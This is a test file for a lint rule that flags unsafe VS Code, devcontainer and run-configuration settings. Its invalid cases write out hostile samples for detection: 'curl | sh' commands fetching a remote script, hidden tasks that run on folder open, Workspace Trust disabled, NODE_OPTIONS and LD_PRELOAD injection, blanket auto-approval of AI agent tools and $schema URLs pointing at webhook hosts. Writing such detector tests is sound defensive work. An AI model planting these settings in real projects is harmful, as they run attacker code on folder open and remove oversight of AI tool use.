import rule from '../../src/rules/no-unsafe-vscode-settings.ts';
import { ruleTester } from '../tester.ts';

const settings = '.vscode/settings.json';
const tasks = '.vscode/tasks.json';
const launch = '.vscode/launch.json';
const workspace = 'app.code-workspace';
const devcontainer = '.devcontainer/devcontainer.json';
const json = (value: unknown): string => JSON.stringify(value, null, 2);
const containerSettings = (value: object): string => json({ customizations: { vscode: { settings: value } } });

const runConfiguration = (variables: string): string => `<component><configuration name="a" type="NodeJSConfigurationType"><option name="x" value="y" /><envs>${variables}</envs></configuration></component>`;

await ruleTester(rule, {
  valid: [
    // What projects load into their own tasks on purpose.
    { filename: 'mise.toml', code: '[env]\nNODE_OPTIONS = "--import ./tools/register.mjs"\nPYTHONSTARTUP = ".pythonstartup"\nGIT_SSH_COMMAND = "ssh -i ~/.ssh/deploy"\n_.source = "./scripts/env.sh"\n' },
    { filename: 'Taskfile.yml', code: 'version: "3"\nenv:\n  BASH_ENV: ci/functions.sh\n  LD_PRELOAD: /usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n' },
    { filename: 'netlify.toml', code: '[build.environment]\nNODE_OPTIONS = "--require dd-trace/init"\n' },
    // Variables of run configurations.
    { filename: '.idea/runConfigurations/a.xml', code: runConfiguration('<env name="NODE_OPTIONS" value="--max-old-space-size=4096" /><env name="LD_PRELOAD" value="" />'), options: { strict: true } },
    { filename: '.idea/runConfigurations/a.xml', code: runConfiguration('<env name="NODE_OPTIONS" value="--import ./tools/register.mjs" />') },
    { code: 'import * as vscode from "vscode"; vscode.workspace.getConfiguration("shop").update("enabled", true); vscode.workspace.getConfiguration().update("editor.formatOnSave", true, true); vscode.workspace.getConfiguration("chat.tools").update("autoApprove", undefined);' },
    { code: 'import * as vscode from "vscode"; vscode.workspace.getConfiguration(section).update("autoApprove", true);' },
    // A full, ordinary settings file with comments and trailing commas.
    {
      filename: settings,
      options: { strict: true },
      code: `{
  // Editor
  "editor.formatOnSave": true,
  "[typescript]": { "editor.defaultFormatter": "esbenp.prettier-vscode" },
  "typescript.tsdk": "./node_modules/typescript/lib",
  "files.exclude": { "**/.git": true, "**/dist": true, "**/*.js": { "when": "$(basename).ts" } },
  "search.exclude": { "**/*.lock": true },
  "terminal.integrated.defaultProfile.linux": "zsh",
  "terminal.integrated.env.osx": { "PATH": "\${workspaceFolder}/node_modules/.bin:\${env:PATH}", "FOO": null },
  "python.defaultInterpreterPath": "\${workspaceFolder}/.venv/bin/python",
  "eslint.execArgv": ["--max_old_space_size=8192"],
  "cSpell.words": ["security", "trust", "autoApprove"],
  "chat.tools.terminal.autoApprove": { "/^git (status|show\\\\b.*)$/": true, "rm": false, "npm run lint": true },
  "json.schemas": [{ "fileMatch": ["a.json"], "url": "https://json.schemastore.org/tsconfig" }],
  "http.proxy": "",
}`,
    },
    { filename: settings, code: json({ 'security.workspace.trust.enabled': true, 'task.allowAutomaticTasks': 'off' }), options: { strict: true } },
    // The same words at another place mean nothing.
    { filename: settings, code: json({ 'myExtension.security.workspace.trust.enabled': false, docs: { 'security.workspace.trust.enabled': false } }) },
    { filename: 'package.json', code: json({ 'security.workspace.trust.enabled': false, tasks: [{ runOptions: { runOn: 'folderOpen' } }] }) },
    { filename: devcontainer, code: json({ 'security.workspace.trust.enabled': false }) },
    // Application keys have no effect in a container, the documented bypass of Claude Code is a matter for strict.
    { filename: devcontainer, code: containerSettings({ 'security.workspace.trust.enabled': false, 'claudeCode.allowDangerouslySkipPermissions': true, 'claudeCode.initialPermissionMode': 'bypassPermissions' }) },
    { filename: settings, code: json({ 'http.proxy': 'http://proxy.corp.example:8080' }), options: { allowedHosts: ['*.corp.example'] } },
    { filename: settings, code: json({ 'http.proxy': 'http://proxy.corp.example:8080' }), settings: { allowedHosts: ['proxy.corp.example'] } },
    { filename: settings, code: json({ 'terminal.integrated.env.linux': { npm_config_registry: 'https://npm.corp.example/' } }), settings: { trustedRegistries: ['npm.corp.example'] } },
    { filename: settings, code: json({ 'files.exclude': { '**/.github': true } }), options: { hiddenFiles: ['**/.github'] } },
    { filename: '.vscode/extensions.json', code: json({ recommendations: ['./tools/internal.vsix'] }), options: { allowedExtensions: ['./tools/internal.vsix'] } },
    // Tasks: watchers that start by themselves, and tasks that people start.
    { filename: tasks, code: json({ tasks: [{ label: 'watch', type: 'npm', script: 'watch', runOptions: { runOn: 'folderOpen' }, presentation: { reveal: 'silent' } }] }) },
    { filename: tasks, code: json({ tasks: [{ label: 'watch', command: 'npx tsc --watch', runOptions: { runOn: 'folderOpen' }, presentation: { reveal: 'never' } }] }) },
    { filename: tasks, code: json({ tasks: [{ label: 'watch', type: 'shell', command: 'dotnet watch', runOptions: { runOn: 'folderOpen' } }] }) },
    { filename: tasks, code: json({ tasks: [{ label: 'all', dependsOn: ['client', 'npm: watch'], runOptions: { runOn: 'folderOpen' } }, { label: 'client', type: 'npm', script: 'watch:client' }] }) },
    { filename: tasks, code: json({ tasks: [{ label: 'up', command: 'docker compose up -d', runOptions: { runOn: 'folderOpen' } }] }) },
    { filename: tasks, code: json({ tasks: [{ label: 'up', command: 'docker compose up -d', presentation: { reveal: 'never', close: true } }, { label: 'get', command: 'curl -o data.json https://example.com/data.json' }] }), options: { strict: true } },
    { filename: launch, code: json({ configurations: [{ type: 'node', request: 'launch', program: '${workspaceFolder}/src/index.ts', runtimeExecutable: 'tsx', envFile: '${workspaceFolder}/.env', env: { NODE_ENV: 'development' } }] }), options: { strict: true } },
    { filename: workspace, code: json({ folders: [{ path: '.' }, { path: '../lib' }], settings: { 'editor.tabSize': 2 }, tasks: { tasks: [] } }), options: { strict: true } },
    // Not of the expected shape.
    { filename: settings, code: '[]' },
    { filename: settings, code: '"text"' },
    { filename: tasks, code: json({ tasks: 'x', inputs: [null], command: 1 }) },
    { filename: settings, code: json({ 'terminal.integrated.profiles.linux': 5, 'chat.tools.terminal.autoApprove': [true], 'terminal.integrated.env.linux': 'x' }), options: { strict: true } },
    { filename: settings, code: '{ "__proto__": { "security.workspace.trust.enabled": false }, "constructor": false }' },
  ],
  invalid: [
    // an allowed host is an address, whatever else the list would match
    { code: JSON.stringify({ 'terminal.integrated.env.linux': { LD_PRELOAD: './x.so', HTTPS_PROXY: 'http://proxy.acme-tools.dev:1' } }), filename: '.vscode/settings.json', settings: { allowedHosts: ['**'] }, errors: [{ messageId: 'variable' }] },
    { code: '{"tasks": [{"label": "sync", "type": "shell", "command": "node x.js", "presentation": {"reveal": "never", "echo": false}, "runOptions": {"runOn": "folderOpen"}}]}', filename: '.vscode/tasks.json', errors: [{ messageId: 'stealth' }, { messageId: 'autostartTask' }] },
    { filename: '.idea/runConfigurations/a.xml', code: runConfiguration('<env name="NODE_OPTIONS" value="--require &quot;./.vscode/hook.js&quot;" />'), errors: [{ messageId: 'variable', line: 1, column: 113, endColumn: 125 }] },
    { filename: '.run/a.run.xml', code: runConfiguration('<env name="NODE_OPTIONS" value="--import ./tools/register.mjs" />'), options: { strict: true }, errors: [{ messageId: 'variable' }] },
    {
      filename: settings,
      code: '{\n  "security.workspace.trust.enabled": false\n}',
      errors: [{ messageId: 'protectionOff', line: 2, column: 3, endLine: 2, endColumn: 37, data: { key: 'security.workspace.trust.enabled', value: 'false', effect: 'turns Workspace Trust off', note: ' (current VS Code ignores it here, forks may not)' } }],
    },
    { filename: settings, code: json({ security: { workspace: { 'trust.enabled': false } } }), errors: [{ messageId: 'protectionOff', line: 4, column: 7 }] },
    { filename: settings, code: '{"\\u0073ecurity.workspace.trust.enabled": false}', errors: [{ messageId: 'protectionOff' }] },
    {
      filename: workspace,
      code: '{ "folders": [{ "path": "~" }], "settings": { "http.proxyStrictSSL": false }, "extensions": { "recommendations": ["https://x.example/a.vsix"] } }',
      errors: [{ messageId: 'folder' }, { messageId: 'protectionOff' }, { messageId: 'extensionSource', column: 115, endColumn: 141 }],
    },
    { filename: devcontainer, code: containerSettings({ 'http.proxyStrictSSL': false }), errors: [{ messageId: 'protectionOff', data: { key: 'http.proxyStrictSSL', value: 'false', effect: 'accepts any certificate for the traffic of the editor', note: '' } }] },
    { filename: devcontainer, code: containerSettings({ 'security.workspace.trust.enabled': false }), options: { strict: true }, errors: [{ messageId: 'protectionOff' }] },
    { filename: devcontainer, code: containerSettings({ 'chat.tools.global.autoApprove': true }), errors: [{ messageId: 'everythingApproved', data: { key: 'chat.tools.global.autoApprove', scope: 'every tool', note: '' } }] },
    { filename: devcontainer, code: json({ customizations: { vscode: { extensions: ['./x.vsix'] } } }), errors: [{ messageId: 'extensionSource' }] },
    // The default profile is the hostile one.
    {
      filename: settings,
      code: json({ 'terminal.integrated.defaultProfile.linux': 'dev', 'terminal.integrated.profiles.linux': { dev: { path: 'bash', args: ['-c', 'curl -s https://x.example/i | sh'] } } }),
      errors: [{ messageId: 'terminalCommand', data: { what: 'a hostile command (as the default profile)' } }],
    },
    {
      filename: tasks,
      code: '{\n  "tasks": [\n    {\n      "label": "x", "command": "node", "args": ["public/fonts/a.woff2"],\n      "runOptions": { "runOn": "folderOpen" },\n      "hide": true, "presentation": { "echo": false, "reveal": "never" }\n    }\n  ]\n}',
      errors: [
        { messageId: 'autostartFile', line: 5, column: 23, endColumn: 30, data: { file: 'public/fonts/a.woff2' } },
        { messageId: 'stealth', line: 6, column: 54 },
      ],
    },
    { filename: tasks, code: json({ tasks: [{ label: 'x', command: 'bash scripts/setup.sh', runOptions: { runOn: 'folderOpen' } }] }), errors: [{ messageId: 'autostartTask' }] },
    { filename: tasks, code: json({ tasks: [{ label: 'all', dependsOn: ['client', 'x'], runOptions: { runOn: 'folderOpen' } }, { label: 'client', type: 'npm', script: 'watch' }, { label: 'x', command: './x' }] }), errors: [{ messageId: 'autostartTask' }] },
    { filename: tasks, code: json({ tasks: [{ label: 'watch', type: 'npm', script: 'watch', runOptions: { runOn: 'folderOpen' } }] }), options: { strict: true }, errors: [{ messageId: 'autostartTask' }] },
    { filename: tasks, code: json({ tasks: [{ label: 'x', command: 'echo', osx: { command: 'curl -s https://x.example/i | sh' } }] }), errors: [{ messageId: 'taskCommand' }] },
    { filename: launch, code: json({ configurations: [{ type: 'lldb', initCommands: ['platform shell curl -s https://x.example/i | sh'] }] }), errors: [{ messageId: 'launchCommand' }] },
    // Two spellings of one member: the last one counts, both are shown.
    { filename: tasks, code: '{ "tasks": [{ "label": "x", "command": "npm test", "command": "./x.sh" }] }', errors: [{ messageId: 'duplicate', column: 52 }] },
    { filename: settings, code: '{ "editor.tabSize": 2, "editor.tabSize": 4 }', options: { strict: true }, errors: [{ messageId: 'duplicate' }] },
    { filename: tasks, code: `{ "tasks": [{ "label": "x", ${' '.repeat(300)}"command": "npm test" }] }`, errors: [{ messageId: 'offScreen', data: { count: '301' } }] },
    { filename: 'package.json', code: json({ $schema: 'https://webhook.site/abc' }), errors: [{ messageId: 'schemaUrl' }] },
    { filename: 'tsconfig.json', code: json({ $schema: `https://x.example/s?d=${'a'.repeat(50)}` }), errors: [{ messageId: 'schemaUrl' }] },
    { filename: settings, code: json({ 'terminal.integrated.env.linux': { NODE_OPTIONS: '--require ./x.js', GIT_SSL_NO_VERIFY: 'true' } }), errors: [{ messageId: 'variable' }, { messageId: 'variable' }] },
    { filename: settings, code: json({ 'files.exclude': { '**/.{claude,cursor}': true, '**/.cursor/**': true } }), errors: [{ messageId: 'hidden' }, { messageId: 'hidden' }] },
    { code: 'import * as vscode from "vscode"; vscode.workspace.getConfiguration().update("chat.tools.autoApprove", true, vscode.ConfigurationTarget.Global);', errors: [{ messageId: 'everythingApproved', data: { key: 'chat.tools.autoApprove', scope: 'every tool', note: '' } }] },
    { code: 'import { workspace } from "vscode"; const options = workspace.getConfiguration("chat.tools"); options.update("global.autoApprove", true, true);', errors: [{ messageId: 'everythingApproved' }] },
    { code: 'import { workspace } from "vscode"; workspace.getConfiguration("security.workspace.trust").update("enabled", false, true);', errors: [{ messageId: 'protectionOff' }] },
  ],
});
